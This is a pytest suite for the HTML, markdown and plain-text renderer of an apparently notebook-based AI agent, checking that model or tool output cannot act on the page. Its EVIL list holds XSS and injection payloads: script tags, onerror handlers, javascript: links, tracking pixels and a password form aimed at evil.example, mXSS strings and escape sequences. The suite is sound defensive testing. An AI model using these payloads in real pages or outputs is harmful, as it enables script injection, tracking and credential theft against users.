"""What a reader sees of a turn, and what can never reach the page."""

import json
from collections.abc import Sequence
from dataclasses import asdict, replace
from functools import reduce
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inkernel.agent.printable import printable
from inkernel.agent.protocol.actions import Verdict
from inkernel.agent.protocol.cells import DisplayOutput, ErrorOutput
from inkernel.agent.protocol.events import Compacted, Compacting, Event, TurnEnded, Usage
from inkernel.agent.protocol.trials import Deed, Trial
from inkernel.widgets.render.html import block_html, bundle, can_show, metadata
from inkernel.widgets.render.labels import evidence_text
from inkernel.widgets.render.outputs import (
    output_html,
    output_line,
    output_markdown,
    shown_text,
)
from inkernel.widgets.render.plain_text import block_text
from inkernel.widgets.render.sanitize import ansi_lines, clean_html, markdown_html
from inkernel.widgets.state.blocks import (
    AnswerBlock,
    AnswerSource,
    Block,
    CompactionBlock,
    HostedBlock,
    Note,
    ReasoningBlock,
    StepBlock,
)
from inkernel.widgets.state.fold import TurnState, fold
from inkernel.widgets.state.outputs import StreamText

VOID = {"img", "br", "hr", "col", "wbr"}
EVIL = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "![pixel](https://evil.example/pixel.png)",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/lab/api/shutdown'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<svg onload=alert(1)><image href='https://evil.example/x'/></svg>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>cover</div>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<div><b><table><tr><td>never closed",
    "</details></div></div></div></pre></table>",
    "<video poster='https://evil.example/x'></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    *(f"{slashes}![i](https://evil.example/i)" for slashes in ("\\", "\\\\", "\\" * 3)),
    *(f"{slashes}<img src='https://evil.example/i'>" for slashes in ("\\", "\\\\", "\\" * 3)),
    "a \\<script>alert(1)</script> \\\\<b onclick=alert(1)>x</b>",
    "- \\![i][r]\n\n[r]: https://evil.example/i",
    "```\nnever closed",
    "> ~~~~\n> never closed",
    "- ```\n  never closed",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[31m<b>red</b>\x1b[0m",
)


class Page(HTMLParser):
    """Reads HTML the way a page would, and fails on what a page must not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in {"script", "style", "iframe", "svg", "form", "input", "link", "video"}
        for name, value in attrs:
            assert not name.startswith("on")
            assert name not in ("id", "class", "srcset", "poster", "background", "action")
            if name == "src":
                assert value and value.startswith("data:image/")
            if name == "href":
                assert value and value.startswith(("https:", "http:", "mailto:"))
                assert ("rel", "noopener noreferrer") in attrs
            if name == "style":
                assert value and "url" not in value and "position" not in value
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


def read(markup: str) -> str:
    """The text a reader sees of safe and balanced HTML."""
    page = Page()
    page.feed(markup)
    page.close()
    assert page.open == []
    return page.text


def folded(events: Sequence[Event]) -> TurnState:
    return reduce(fold, events, TurnState())


def every_place(text: str) -> list[Block]:
    """Blocks that hold `text` wherever a model, a tool or a server can put it."""
    outputs = (
        StreamText("stdout", text),
        StreamText("stderr", text),
        *(DisplayOutput(data={kind: text}) for kind in ("text/html", "text/markdown")),
        *(DisplayOutput(data={kind: text}) for kind in ("text/latex", "text/plain", "image/png")),
        DisplayOutput(data={"image/svg+xml": text}, metadata={"width": text}),
        DisplayOutput(data={text: text, "application/x": text}),
        ErrorOutput(ename=text, evalue=text, traceback=(text,) * 20),
    )
    verdict = Verdict(decision="deny", reason=text)
    step = StepBlock("c", tool=text, arguments=text, told=text, verdict=verdict, outputs=outputs)
    sources = (
        AnswerSource(text),
        AnswerSource(text, text),
        AnswerSource(text, f"https://a.example/{text}"),
    )
    ran = HostedBlock(text, text, text, "ok", text, text, text, text, outputs, sources)
    return [
        ReasoningBlock((text, f"**{text}**")),
        AnswerBlock(text),
        AnswerBlock(text, refused=True, sources=sources),
        ran,
        replace(ran, status="running"),
        replace(ran, code="", told=""),
        replace(step, status="asking", asked=text),
        replace(step, arguments='{"title": "t", "code": ' + json.dumps(text) + "}"),
        Note("notice", text),
        Note("retry", text, text, 2.0),
        CompactionBlock(2, status="ok", after=1, dropped=text, noted=False),
    ]


@pytest.mark.parametrize("evil", EVIL)
def test_nothing_said_or_put_out_acts_on_the_page_or_breaks_out_of_its_block(evil: str) -> None:
    for block in every_place(evil):
        read(block_html(block, timing=True, since=1))
        read(block_html(block, timing=False))


@given(st.text(max_size=60))
def test_no_text_at_all_breaks_out_of_its_block(text: str) -> None:
    for block in every_place(text):
        read(block_html(block, timing=True))


@pytest.mark.parametrize("evil", EVIL)
def test_the_markdown_form_loads_nothing_either(evil: str) -> None:
    from markdown_it import MarkdownIt

    for block in every_place(evil):
        markdown = bundle(TurnState(blocks=(block,)), timing=True)["text/markdown"]
        for token in MarkdownIt("commonmark").parse(markdown):
            assert token.type != "html_block", token.content
            for child in token.children or ():
                assert child.type not in ("image", "html_inline"), child.content


@pytest.mark.parametrize("fence", ["```", "~~~", "`````", "x\n\n```html\n<b>", "- ```", "> ```"])
def test_a_fence_without_an_end_holds_nothing_of_the_blocks_below(fence: str) -> None:
    from markdown_it import MarkdownIt

    evil = "<img src='https://evil.example/i'>\n\n![i](https://evil.example/i)"
    said = (ReasoningBlock((fence, f"```\n{evil}\n```")), AnswerBlock(fence), AnswerBlock(fence))
    state = TurnState(blocks=(*said, StepBlock("c", tool="source", told=evil)))
    for token in MarkdownIt("commonmark").parse(bundle(state, timing=True)["text/markdown"]):
        assert token.type != "html_block", token.content
        for child in token.children or ():
            assert child.type not in ("image", "html_inline"), child.content


def test_the_plain_form_has_no_control_characters() -> None:
    for block in every_place("\x1b[31mred\x1b[0m\x07\x9b31m\x00\r"):
        text = bundle(TurnState(blocks=(block,)), timing=True)["text/plain"]
        assert all(char.isprintable() or char == "\n" for char in text)


def test_what_hides_or_reverses_code_is_seen() -> None:
    assert printable("a\u202eb\ud800c\x00d\x1b[2Ke") == "a\ufffdb\ufffdcde"
    html = block_html(StepBlock("c", arguments='{"code": "x = 1 \u202e# y"}'), timing=True)
    assert "\ufffd" in html


def test_a_person_reads_title_code_outputs_and_answer(turn: list[Event]) -> None:
    text = read(bundle(folded(turn), timing=True)["text/html"])
    for part in (
        "model-1 · local",
        "Thought · Plan",
        "I will look.",
        "✓ inspect names=[df] 0.2 s",
        "df: 3 rows",
        "✗ Plot it failed · 0.8 s",
        "print('hello')\nplot()",
        "hello",
        "E: bad",
        "All done.",
        "completed · 6.5 s · 2 steps, 2 samples · 3,000 tokens in (800 cached), 60 out · $0.0123",
    ):
        assert part in text
    assert "told to the model" not in text


def test_the_markdown_form_reads_as_a_document_and_holds_no_image(
    turn: list[Event], png: str
) -> None:
    markdown = bundle(folded(turn), timing=True)["text/markdown"]
    assert png not in markdown
    assert "*[figure 640×480]*" in markdown
    assert "**✗ Plot it** · failed · 0.8 s\n\n```python\nprint('hello')\nplot()\n```" in markdown
    assert markdown.index("*Thought") < markdown.index("I will look.") < markdown.index("hello")
    assert "All **done**." in markdown


def test_the_plain_form_is_the_same_turn_in_letters(turn: list[Event]) -> None:
    text = bundle(folded(turn), timing=False)["text/plain"]
    step = "✗ Plot it · failed\n    print('hello')\n    plot()\n"
    assert step + "hello\n[figure 640×480]\nE: bad" in text


def test_without_timing_two_runs_of_different_speed_give_the_same_bytes(turn: list[Event]) -> None:
    def slower(event: Event) -> Event:
        return replace(event, seconds=99.0) if hasattr(event, "seconds") else event

    one, two = folded(turn), folded([slower(event) for event in turn])
    assert bundle(one, timing=False) == bundle(two, timing=False)
    assert bundle(one, timing=True) != bundle(two, timing=True)
    assert metadata(one, timing=False) == metadata(two, timing=False)


def test_rendering_twice_gives_the_same_bytes(turn: list[Event]) -> None:
    assert bundle(folded(turn), timing=True) == bundle(folded(turn), timing=True)


def test_a_wait_is_told_only_with_timing() -> None:
    note = Note("retry", "503", "attempt 1 of 3", 2.5)
    assert "in 2.5 s" in block_html(note, timing=True)
    assert "2.5" not in block_html(note, timing=False)
    assert 'data-until="3500"' in block_html(note, timing=True, since=1000)


MAKING = "● Making room: 26,012 of 32,000 tokens are in the window …"
NOTHING = "• Nothing could be left out."


@pytest.mark.parametrize(
    ("room", "line"),
    [
        (CompactionBlock(26_012, 32_000), MAKING),
        (CompactionBlock(26_012, 32_000, seconds=3), f"{MAKING} · 3.0 s"),
        (CompactionBlock(26_012), "● Making room: 26,012 tokens are in the window …"),
        (CompactionBlock(9, 8, True), "● The server found the request too long; making room …"),
        (CompactionBlock(9, 8, status="interrupted"), "■ Making room was interrupted."),
        (CompactionBlock(9, 8, False, "ok", 5, "nothing"), "• Made room: 9 → 5 tokens."),
        (
            CompactionBlock(9, 8, False, "ok", 5, "1\nrun", seconds=2),
            "• Made room in 2.0 s: 9 → 5 tokens (1 run).",
        ),
        (
            CompactionBlock(9, 8, False, "ok", 5, "1 run", noted=False),
            "• Made room: 9 → 5 tokens (1 run). The model gave no notes. The digest has the rest.",
        ),
        (CompactionBlock(9, 8, False, "ok", 9, "nothing", seconds=2), NOTHING),
        (CompactionBlock(9, 8, False, "ok", 11, "nothing", noted=False), NOTHING),
    ],
)
def test_what_becomes_of_the_window_is_one_line_in_every_form(
    room: CompactionBlock, line: str
) -> None:
    forms = bundle(TurnState(blocks=(room,)), timing=True)
    assert line in read(forms["text/html"])
    assert f"\n\n{line}\n\n" in forms["text/markdown"]
    assert f"\n\n{line}\n\n" in forms["text/plain"]


def test_room_that_is_being_made_has_a_clock_only_in_the_live_form(
    making: Compacting, made: Compacted
) -> None:
    state = folded([making])
    assert 'data-since="1000"' in block_html(state.blocks[0], timing=True, since=1000)
    assert "data-since" not in bundle(state, timing=True)["text/html"]
    end = TurnEnded(status="failed", answer="", usage=Usage(), cost=None, seconds=1, samples=0)
    for over in (made, end):
        (block,) = fold(state, over).blocks
        assert "data-since" not in block_html(block, timing=True, since=1000)


def test_the_seconds_that_room_took_are_told_only_with_timing(
    making: Compacting, made: Compacted
) -> None:
    slower = replace(made, seconds=80.0)
    one, two = folded([making, made]), folded([making, slower])
    assert bundle(one, timing=False) == bundle(two, timing=False)
    assert all("Made room in 1 min 20 s: 26,012" in each for each in bundle(two, True).values())


def test_what_a_turn_is_busy_with_is_making_room(making: Compacting, made: Compacted) -> None:
    assert bundle(folded([making]), timing=True)["text/plain"].endswith(
        "\n\nmaking room · 0 steps, 0 samples"
    )
    assert bundle(folded([making, made]), timing=True)["text/plain"].endswith(
        "waiting for the model · 0 steps, 0 samples · 20,000 tokens in (19,000 cached), 400 out"
    )


def test_the_metadata_has_the_figures_of_the_turn(turn: list[Event]) -> None:
    facts = metadata(folded(turn), timing=True)["inkernel"]
    assert isinstance(facts, dict)
    assert facts["model"] == "model-1"
    assert facts["usage"] == asdict(Usage(input=3000, cached=800, output=60))
    assert (facts["session"], facts["turn"], facts["seconds"]) == ("s", 2, 6.5)


def test_a_scripted_model_is_said_to_be_one(turn: list[Event]) -> None:
    scripted = replace(turn[0], scripted=True)
    for form in bundle(folded([scripted]), timing=True).values():
        assert "scripted model: its words come from a script file" in form


def test_a_step_that_went_well_folds_long_code_and_a_failed_one_never() -> None:
    code = "\\n".join(["x = 1"] * 40)
    step = StepBlock("c", arguments='{"title": "t", "code": "' + code + '"}', status="ok", ran=True)
    assert "<details><summary" in block_html(step, timing=True)
    assert "<details open>" in block_html(replace(step, status="error"), timing=True)
    assert "<details open>" in block_html(replace(step, arguments='{"code": "1"}'), timing=True)


def test_what_the_model_was_told_is_shown_where_no_code_ran() -> None:
    denied = StepBlock("c", arguments='{"code": "1"}', status="denied", told="The user said no.")
    assert "The user said no." in block_html(denied, timing=True)
    ran = replace(denied, status="ok", ran=True)
    assert "The user said no." not in block_html(ran, timing=True)


def test_what_a_cell_run_put_out_is_shown_once_and_the_text_of_another_tool_beside_it() -> None:
    put_out = (StreamText("stdout", "rain"),)
    step = StepBlock("c", tool="wettest", status="ok", ran=True, told="ok\nstdout:\nrain", count=4)
    for form in (block_html, block_text):
        assert form(replace(step, outputs=put_out), timing=True).count("rain") == 1
        assert "ok" in form(replace(step, told="ok"), timing=True)
        progress = replace(step, outputs=put_out, count=None, told="counted")
        assert "counted" in form(progress, timing=True) and "rain" in form(progress, timing=True)


def test_a_tool_of_a_server_has_the_servers_name_before_its_own() -> None:
    step = StepBlock("c", tool="mcp__my_trips__plan_it", status="ok", ran=True)
    assert "my trips: plan it" in block_text(step, timing=True)


def test_a_verdict_is_shown_unless_plainly_allowed() -> None:
    step = StepBlock("c", arguments='{"code": "1"}', status="ok", ran=True)
    plain = replace(step, verdict=Verdict(decision="allow", reason="policy auto"))
    assert "policy auto" not in block_html(plain, timing=True)
    by_user = replace(step, verdict=Verdict(decision="allow", reason="yes", by="user"))
    assert "allowed by you" in block_html(by_user, timing=True)


DEEDS = tuple(Deed("write", f"/far/{n}", "open") for n in range(40))
ASKED = StepBlock("c", arguments='{"code": "save()"}', status="asking", asked="policy auto")


def test_the_evidence_of_a_question_is_whole_and_in_no_scroll_box() -> None:
    tried = replace(ASKED, tried=Trial(status="error", denied=DEEDS, error="OSError: read-only"))
    read_only = replace(ASKED, deeds=DEEDS)
    for step in (tried, read_only):
        html = block_html(step, timing=True)
        assert all(f"write {it.target} (open)" in html for it in DEEDS)
        assert "max-height:28em" not in html and "read-only" not in html


def test_one_thing_is_one_line_of_the_evidence_with_all_ways_to_it() -> None:
    ways = [Deed("read", "/k", it) for it in ("open", "os.stat", "polars.read_csv")]
    other = [Deed("kernel", "", "IOError: no"), Deed("kernel", "", "IOError: never")]
    trial = Trial(status="error", denied=(*ways, *other, Deed("write", "/k", "open")))
    lines = evidence_text(replace(ASKED, tried=trial)).splitlines()[2:]
    assert lines[0] == "  read /k (open, os.stat, polars.read_csv)"
    assert len(lines) == 4 and lines[-1] == "  write /k (open)"


def test_a_name_that_code_chose_cannot_forge_a_line_of_the_evidence() -> None:
    forged = Deed("write", "/far\nThe walls refused:\n  nothing\x1b[2K")
    trial = Trial(status="ok", denied=(forged,))
    lines = evidence_text(replace(ASKED, tried=trial)).splitlines()
    assert lines[2:] == ["  write /far⏎The walls refused:⏎  nothing⟨ESCAPE⟩[2K"]


def test_evidence_goes_when_the_step_may_run_and_the_answer_says_what_it_allowed() -> None:
    yes = Verdict(decision="allow", reason="yes", by="user", deeds=DEEDS[:1])
    tried = replace(ASKED, tried=Trial(status="ok", denied=DEEDS[:1]), verdict=yes)
    html = block_html(replace(tried, status="ok", ran=True), timing=True)
    assert "allowed by you: write /far/0" in html and "walls" not in html
    edited = replace(tried, status="ok", ran=True, edited=True)
    assert "changed and allowed by you" in block_html(edited, timing=True)


def test_code_that_was_asked_about_never_hides_again() -> None:
    step = replace(ASKED, arguments='{"code": "x = 1' + " " * 600 + '; y"}', status="denied")
    for form in (block_html(step, timing=True), block_text(step, timing=True)):
        assert "⟨600 blanks⟩; y" in form


def test_a_running_step_has_a_clock_only_in_the_live_form() -> None:
    step = StepBlock("c", tool="run_cell", arguments='{"code": "1"}', status="running", ran=True)
    assert 'data-since="1000"' in block_html(step, timing=True, since=1000)
    assert "data-since" not in block_html(step, timing=True)


def test_a_long_traceback_is_folded_but_for_its_message() -> None:
    lines = ["\x1b[31mKeyError\x1b[0m  Traceback", *["frame </details>"] * 30, "KeyError: 'x'", ""]
    output = ErrorOutput(ename="KeyError", evalue="'x'", traceback=tuple(lines))
    html = output_html(output, stick=False)
    folded_part, message = html.rsplit("</details>", 1)
    assert read(folded_part + "</details>").count("frame </details>") == 30
    assert read(message).strip() == "KeyError: 'x'"
    short = ErrorOutput(ename="E", evalue="", traceback=("a\nb",))
    assert "<details" not in output_html(short, stick=False)


def test_colours_become_spans_that_end_on_their_line() -> None:
    red, both, plain = ansi_lines("\x1b[1;31mred\nstill\x1b[0m not\n\x1b[2Jplain")
    assert red == '<span style="font-weight:bold;color:#e75c58">red</span>'
    assert both == '<span style="font-weight:bold;color:#e75c58">still</span> not'
    assert plain == "plain"
    assert ansi_lines("\x1b[38;5;196mx\x1b[39my\x1b[48;2;1;2;3mz") == [
        '<span style="color:#ff0000">x</span>y<span style="background-color:#010203">z</span>'
    ]


@given(st.text(alphabet="\x1b[;:m0123456789a\n<", max_size=60))
def test_any_colour_sequence_is_read_and_leaves_no_escape(text: str) -> None:
    html = "\n".join(ansi_lines(text))
    assert "\x1b" not in html
    read(html)


def test_a_table_of_pandas_keeps_its_cells_and_loses_its_style_element() -> None:
    markup = (
        "<div><style scoped>.dataframe tbody {}</style><table border='1' class='dataframe'>"
        "<tr style='text-align: right;'><td>1.5</td></tr></table></div>"
    )
    assert clean_html(markup) == (
        '<div><table><tbody><tr style="text-align: right"><td>1.5</td></tr></tbody></table></div>'
    )
    assert can_show({"text/html": markup, "text/plain": "1.5"})


def test_markdown_of_the_model_has_tables_and_coloured_code() -> None:
    html = markdown_html("| a |\n| - |\n| 1 |\n\n```python\ndef f(): ...\n```")
    assert "<td>1</td>" in html
    assert "--jp-mirror-editor-keyword-color" in html
    assert read(html).split() == ["a", "1", "def", "f():", "..."]


def test_figures_are_data_with_words_for_those_who_do_not_see_them(png: str) -> None:
    sized = DisplayOutput(data={"image/png": png + "\n"}, metadata={"image/png": {"width": 320}})
    html = output_html(sized, stick=False)
    assert f'src="data:image/png;base64,{png}" alt="figure 640×480" width="320"' in html
    svg = DisplayOutput(data={"image/svg+xml": "<svg onload='alert(1)'/>"})
    assert 'src="data:image/svg+xml;base64,' in output_html(svg, stick=False)
    assert output_markdown(svg) == "*[figure]*"
    assert shown_text(DisplayOutput(data={"image/jpeg": "AAAA"})) == "[figure]"


def test_an_error_without_words_is_its_name_alone() -> None:
    stopped = ErrorOutput(ename="KeyboardInterrupt", evalue="", traceback=())
    assert shown_text(stopped) == "KeyboardInterrupt"


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        ({"text/plain": "1"}, True),
        ({"text/html": "<b>1</b>", "text/plain": "1"}, True),
        ({"text/html": ["<b>", "1</b>"]}, True),
        ({"text/markdown": "*1*"}, True),
        ({"text/latex": "$1$"}, True),
        ({"image/png": "AAAA", "text/plain": "1"}, True),
        ({"image/svg+xml": "<svg/>"}, True),
        ({}, False),
        ({"text/html": "<SCRIPT>1</SCRIPT>"}, False),
        ({"text/html": "<iframe src=x>"}, False),
        ({"text/html": "<svg></svg>"}, False),
        ({"text/html": "<style>#T_1 td {color: red}</style><table id='T_1'>"}, False),
        ({"application/vnd.jupyter.widget-view+json": {}, "text/plain": "1"}, False),
        ({"application/vnd.plotly.v1+json": {}, "text/html": "<b>1</b>"}, False),
        ({"application/vnd.vegalite.v5+json": {}, "image/png": "AAAA"}, False),
        ({"application/javascript": "1"}, False),
        ({"application/pdf": "AAAA"}, False),
        ({"video/mp4": "AAAA"}, False),
        ({"text/x-own": "1"}, False),
    ],
)
def test_what_can_be_shown_here_is_known_from_the_bundle(
    data: dict[str, object], shown: bool
) -> None:
    assert can_show(data) is shown


def test_what_the_notebook_shows_itself_is_named() -> None:
    output = DisplayOutput(data={"application/vnd.plotly.v1+json": {}, "text/html": "<b>1</b>"})
    said = "[application/vnd.plotly.v1+json: shown by the notebook itself]"
    assert read(output_html(output, stick=False)) == said


def test_a_turn_without_any_event_of_its_own_renders() -> None:
    forms = bundle(TurnState(), timing=True)
    assert set(forms) == {"text/html", "text/markdown", "text/plain"}


def test_half_written_code_renders_at_every_length() -> None:
    arguments = '{"title": "T", "code": "def f(x):\\n    return \\"é\\u00e9\\""}'
    for length in range(len(arguments) + 1):
        step = StepBlock("c", tool="run_cell", arguments=arguments[:length], status="writing")
        read(block_html(step, timing=True))


def test_the_saved_forms_hold_each_output_once() -> None:
    table = "\n".join(
        f"{n:4} " + " ".join(f"{n * k / 7:12.5f}" for k in range(6)) for n in range(25)
    )
    picture = "iVBORw0KGgo" + "A" * 50_000
    outputs = StreamText("stdout", table), DisplayOutput(data={"image/png": picture})
    code = json.dumps({"title": "Look", "code": "print(table)"})
    for output, chars in zip(outputs, (len(table), len(picture)), strict=True):
        step = StepBlock("c", "run_cell", code, "ok", True, outputs=(output,))
        forms = bundle(TurnState(blocks=(step,) * 20), timing=True)
        assert len(json.dumps(forms, ensure_ascii=False)) <= 1.5 * 20 * chars
        assert not any(picture in forms[kind] for kind in ("text/markdown", "text/plain"))


@pytest.mark.parametrize(
    ("ends", "left_out"),
    [
        ("first line\n{}\nlast line", "1,000"),
        ("first words {} last words", "1,000"),
        ("first{}last", "888"),
    ],
)
def test_markdown_has_both_ends_of_a_long_text_and_says_how_much_is_between(
    ends: str, left_out: str
) -> None:
    text = ends.format("x" * 999)
    markdown = output_markdown(StreamText("stdout", text))
    _, head, mark, tail, _ = markdown.split("\n")
    assert text.startswith(head) and text.endswith(tail)
    assert mark == f"… {left_out} characters left out …"
    short = "\n".join("x" * 30 for _ in range(12))
    assert output_markdown(StreamText("stdout", short)) == f"```\n{short}\n```"


def test_plain_text_has_a_line_for_each_output() -> None:
    said = {"a\nb\nc\n": "a … 2 more lines", "a\n": "a", "x" * 99: "x" * 59 + "…", "": ""}
    assert {text: output_line(StreamText("stdout", text)) for text in said} == said
